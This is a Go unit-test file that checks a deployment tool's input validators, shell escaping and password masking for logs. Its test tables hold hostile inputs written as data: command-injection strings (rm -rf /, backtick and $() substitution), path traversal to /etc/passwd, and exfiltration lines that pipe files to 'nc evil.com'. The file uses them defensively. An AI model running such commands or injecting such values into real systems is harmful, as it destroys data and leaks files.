package security

import (
	"strings"
	"testing"
)

func TestValidateSiteSlug(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "wechange", false},
		{"valid with numbers", "cloud42", false},
		{"valid with hyphens", "wechange-staging", false},
		{"valid single char", "a", false},
		{"valid two chars", "ab", false},
		{"empty", "", true},
		{"starts with hyphen", "-cloud", true},
		{"ends with hyphen", "cloud-", true},
		{"uppercase", "Cloud", true},
		{"underscore", "we_change", true},
		{"special chars", "we;change", true},
		{"injection attempt", "cloud;rm -rf /", true},
		{"injection backtick", "cloud`id`", true},
		{"too long", strings.Repeat("a", 64), true},
		{"max length", strings.Repeat("a", 63), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateSiteSlug(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateSiteSlug(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateServerName(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "production", false},
		{"valid with numbers", "server1", false},
		{"valid with hyphens", "my-server", false},
		{"valid with underscores", "my_server", false},
		{"valid mixed case", "MyServer", false},
		{"valid single char", "a", false},
		{"empty", "", true},
		{"starts with hyphen", "-server", true},
		{"starts with underscore", "_server", true},
		{"special chars", "server;id", true},
		{"injection attempt", "prod;rm -rf /", true},
		{"space", "my server", true},
		{"too long", strings.Repeat("a", 65), true},
		{"max length", strings.Repeat("a", 64), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateServerName(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateServerName(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateRelease(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid timestamp", "20240115120000", false},
		{"valid dashed timestamp", "20240115-120000", false},
		{"valid semver", "v1.2.3", false},
		{"valid with underscores", "release_1", false},
		{"valid single char", "a", false},
		{"empty", "", true},
		{"starts with dot", ".hidden", true},
		{"starts with hyphen", "-release", true},
		{"special chars", "release;id", true},
		{"injection attempt", "v1.0;rm -rf /", true},
		{"space", "release 1", true},
		{"too long", strings.Repeat("a", 129), true},
		{"max length", strings.Repeat("a", 128), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateRelease(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateRelease(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateUnixUser(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "deploy", false},
		{"valid with numbers", "user1", false},
		{"valid with underscore prefix", "_user", false},
		{"valid with hyphen", "my-user", false},
		{"valid www-data", "www-data", false},
		{"empty", "", true},
		{"starts with number", "1user", true},
		{"starts with hyphen", "-user", true},
		{"uppercase", "User", true},
		{"special chars", "user;id", true},
		{"injection attempt", "root;rm -rf /", true},
		{"too long", strings.Repeat("a", 33), true},
		{"max length", strings.Repeat("a", 32), false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateUnixUser(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateUnixUser(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateDomain(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid two labels", "wechange.de", false},
		{"valid subdomain", "cloud.wechange.de", false},
		{"valid with digits", "cloud2.example.org", false},
		{"valid with hyphens", "my-cloud.example.org", false},
		{"empty", "", true},
		{"single label", "localhost", true},
		{"uppercase", "Cloud.example.org", true},
		{"leading dot", ".example.org", true},
		{"trailing dot", "example.org.", true},
		{"label starts with hyphen", "-cloud.example.org", true},
		{"injection attempt", "cloud.example.org;id", true},
		{"space", "cloud example.org", true},
		{"scheme included", "https://cloud.example.org", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateDomain(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateDomain(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateImageRef(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid official", "mariadb:10.11", false},
		{"valid namespaced", "onlyoffice/documentserver:8.1", false},
		{"valid fpm variant", "nextcloud:28-fpm", false},
		{"valid alpine", "nginx:1.28-alpine", false},
		{"valid untagged", "nginx", false},
		{"empty", "", true},
		{"uppercase repo", "MariaDB:10.11", true},
		{"space", "mariadb 10.11", true},
		{"injection attempt", "mariadb:10.11;id", true},
		{"backtick", "mariadb`id`", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateImageRef(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateImageRef(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateHealthPath(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid root", "/", false},
		{"valid status", "/status.php", false},
		{"valid nested", "/index.php/login", false},
		{"valid with underscore", "/health_check", false},
		{"valid with hyphen", "/health-check", false},
		{"empty", "", false}, // Empty defaults to "/status.php"
		{"no leading slash", "status.php", true},
		{"special chars", "/status;id", true},
		{"injection attempt", "/status?cmd=`id`", true},
		{"double slash", "//etc/passwd", true},
		{"parent traversal", "/../../etc/passwd", true},
		{"query string", "/status?check=1", true},
		{"space", "/status php", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateHealthPath(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateHealthPath(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateLogTail(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid number", "100", false},
		{"valid all", "all", false},
		{"valid zero", "0", false},
		{"valid large", "10000", false},
		{"empty", "", false}, // Empty defaults to "100"
		{"negative", "-1", true},
		{"not a number", "abc", true},
		{"injection attempt", "100;id", true},
		{"too large", "100001", true},
		{"max allowed", "100000", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateLogTail(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateLogTail(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateLogSince(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid hours", "2h", false},
		{"valid minutes", "30m", false},
		{"valid seconds", "60s", false},
		{"valid days", "1d", false},
		{"valid combined", "1h30m", false},
		{"valid date", "2024-01-15", false},
		{"valid datetime", "2024-01-15T10:30:00", false},
		{"empty", "", false}, // Empty means no filter
		{"invalid format", "yesterday", true},
		{"injection attempt", "2h;id", true},
		{"special chars", "2h`id`", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateLogSince(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateLogSince(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateEnvKey(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "DB_PASSWORD", false},
		{"valid with numbers", "VAR1", false},
		{"valid underscore prefix", "_PRIVATE", false},
		{"valid lowercase", "my_var", false},
		{"empty", "", true},
		{"starts with number", "1VAR", true},
		{"hyphen", "MY-VAR", true},
		{"special chars", "VAR;id", true},
		{"space", "MY VAR", true},
		{"injection attempt", "VAR`id`", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateEnvKey(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateEnvKey(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateContainerCommand(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid occ status", "php occ status", false},
		{"valid occ with flags", "php occ maintenance:mode --on", false},
		{"empty", "", true},
		{"semicolon injection", "ls; rm -rf /", true},
		{"and injection", "ls && rm -rf /", true},
		{"or injection", "ls || rm -rf /", true},
		{"pipe injection", "cat /etc/passwd | nc evil.com 80", true},
		{"backtick injection", "echo `id`", true},
		{"subshell injection", "echo $(id)", true},
		{"redirect injection", "echo data > /etc/passwd", true},
		{"variable expansion", "echo ${PATH}", true},
		{"newline injection", "ls\nrm -rf /", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateContainerCommand(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateContainerCommand(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestValidateArtifactPath(t *testing.T) {
	tests := []struct {
		name    string
		input   string
		wantErr bool
	}{
		{"valid simple", "docker-compose.yml", false},
		{"valid nested", "proxy/nginx.conf", false},
		{"valid theme file", "theme/core/templates/layout.user.php", false},
		{"valid with hyphens", "my-dir/file", false},
		{"valid with underscores", "my_dir/file", false},
		{"empty", "", true},
		{"absolute path", "/etc/nginx.conf", true},
		{"parent traversal", "../etc", true},
		{"hidden traversal", "theme/../../etc", true},
		{"with spaces", "proxy/nginx conf", true},
		{"with semicolon", "proxy;id", true},
		{"with backtick", "proxy`id`", true},
		{"with shell expansion", "proxy$(id)", true},
		{"double slash", "proxy//nginx.conf", true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateArtifactPath(tt.input)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateArtifactPath(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
			}
		})
	}
}

func TestShellEscape(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		expected string
	}{
		{"empty string", "", "''"},
		{"simple string", "hello", "'hello'"},
		{"with spaces", "hello world", "'hello world'"},
		{"with single quotes", "it's", "'it'\\''s'"},
		{"with double quotes", `say "hello"`, `'say "hello"'`},
		{"with backticks", "echo `id`", "'echo `id`'"},
		{"with dollar paren", "echo $(id)", "'echo $(id)'"},
		{"with dollar brace", "echo ${PATH}", "'echo ${PATH}'"},
		{"with newline", "line1\nline2", "'line1\nline2'"},
		{"with semicolon", "cmd1; cmd2", "'cmd1; cmd2'"},
		{"password with quote", "p@ss'w0rd", "'p@ss'\\''w0rd'"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ShellEscape(tt.input)
			if got != tt.expected {
				t.Errorf("ShellEscape(%q) = %q, want %q", tt.input, got, tt.expected)
			}
		})
	}
}

func TestSanitizeCommandForLog(t *testing.T) {
	tests := []struct {
		name     string
		input    string
		contains string // substring that should NOT be present
		masked   bool   // true if the output should contain ****
	}{
		{
			"masks DB_PASSWORD",
			"-e DB_PASSWORD='sup3rs3cret'",
			"sup3rs3cret",
			true,
		},
		{
			"masks DB_ROOT_PASSWORD",
			"-e DB_ROOT_PASSWORD=rootpass",
			"rootpass",
			true,
		},
		{
			"masks MARIADB_PASSWORD",
			"-e MARIADB_PASSWORD=mariapass123",
			"mariapass123",
			true,
		},
		{
			"masks OFFICE_JWT_SECRET",
			"-e OFFICE_JWT_SECRET=jwtsecret42",
			"jwtsecret42",
			true,
		},
		{
			"masks -p<password>",
			"mariadb-admin ping -uadmin -psecretpass --silent",
			"secretpass",
			true,
		},
		{
			"no masking for safe commands",
			"docker compose -p wechange exec -T app php occ status",
			"",
			false,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := SanitizeCommandForLog(tt.input)
			if tt.masked && !strings.Contains(result, "****") {
				t.Errorf("expected masked output to contain '****', got %q", result)
			}
			if tt.contains != "" && strings.Contains(result, tt.contains) {
				t.Errorf("sanitized output should not contain %q, got %q", tt.contains, result)
			}
		})
	}
}

// Test injection attempts that could bypass validation
func TestInjectionAttempts(t *testing.T) {
	injectionPayloads := []string{
		"test;rm -rf /",
		"test && cat /etc/passwd",
		"test || wget evil.com",
		"test`id`",
		"test$(whoami)",
		"test\nmalicious",
		"test\rmalicious",
		"test|nc evil.com 80",
		"test>/etc/passwd",
		"test<script>",
	}

	t.Run("SiteSlug blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateSiteSlug(payload); err == nil {
				t.Errorf("ValidateSiteSlug should reject: %q", payload)
			}
		}
	})

	t.Run("ServerName blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateServerName(payload); err == nil {
				t.Errorf("ValidateServerName should reject: %q", payload)
			}
		}
	})

	t.Run("Release blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateRelease(payload); err == nil {
				t.Errorf("ValidateRelease should reject: %q", payload)
			}
		}
	})

	t.Run("UnixUser blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateUnixUser(payload); err == nil {
				t.Errorf("ValidateUnixUser should reject: %q", payload)
			}
		}
	})

	t.Run("Domain blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateDomain(payload); err == nil {
				t.Errorf("ValidateDomain should reject: %q", payload)
			}
		}
	})

	t.Run("LogTail blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateLogTail(payload); err == nil {
				t.Errorf("ValidateLogTail should reject: %q", payload)
			}
		}
	})

	t.Run("LogSince blocks injection", func(t *testing.T) {
		for _, payload := range injectionPayloads {
			if err := ValidateLogSince(payload); err == nil {
				t.Errorf("ValidateLogSince should reject: %q", payload)
			}
		}
	})
}
